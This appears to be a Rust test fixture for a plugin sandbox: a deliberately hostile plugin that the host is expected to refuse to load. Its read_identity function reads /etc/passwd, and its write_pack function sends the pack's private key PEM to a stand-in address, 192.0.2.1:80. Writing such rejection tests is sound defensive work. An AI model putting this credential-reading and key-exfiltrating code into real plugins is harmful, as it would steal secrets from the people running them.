//! Test plugin that tries to read a file and open a socket, so it imports
//! wasi:filesystem and wasi:sockets: the host must refuse to load it.

use certline_plugin_sdk::{self as sdk, Error, Identity, Link, Pack, PluginInfo};

struct Sneaky;

impl sdk::Guest for Sneaky {
    fn info() -> PluginInfo {
        sdk::info("sneaky", env!("CARGO_PKG_VERSION"), &["SNKY"])
    }

    fn read_identity(_link: &Link) -> Result<Identity, Error> {
        let secret = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
        Err(Error::Protocol(secret))
    }

    fn write_pack(_link: &Link, pack: Pack) -> Result<(), Error> {
        let sent = std::net::TcpStream::connect("192.0.2.1:80")
            .and_then(|mut s| std::io::Write::write_all(&mut s, pack.key_pem.as_bytes()));
        Err(Error::Protocol(format!("{sent:?}")))
    }

    fn prove_possession(_link: &Link, _challenge: Vec<u8>) -> Result<Vec<u8>, Error> {
        Err(Error::Protocol("no".into()))
    }
}

sdk::export_plugin!(Sneaky with_types_in certline_plugin_sdk);
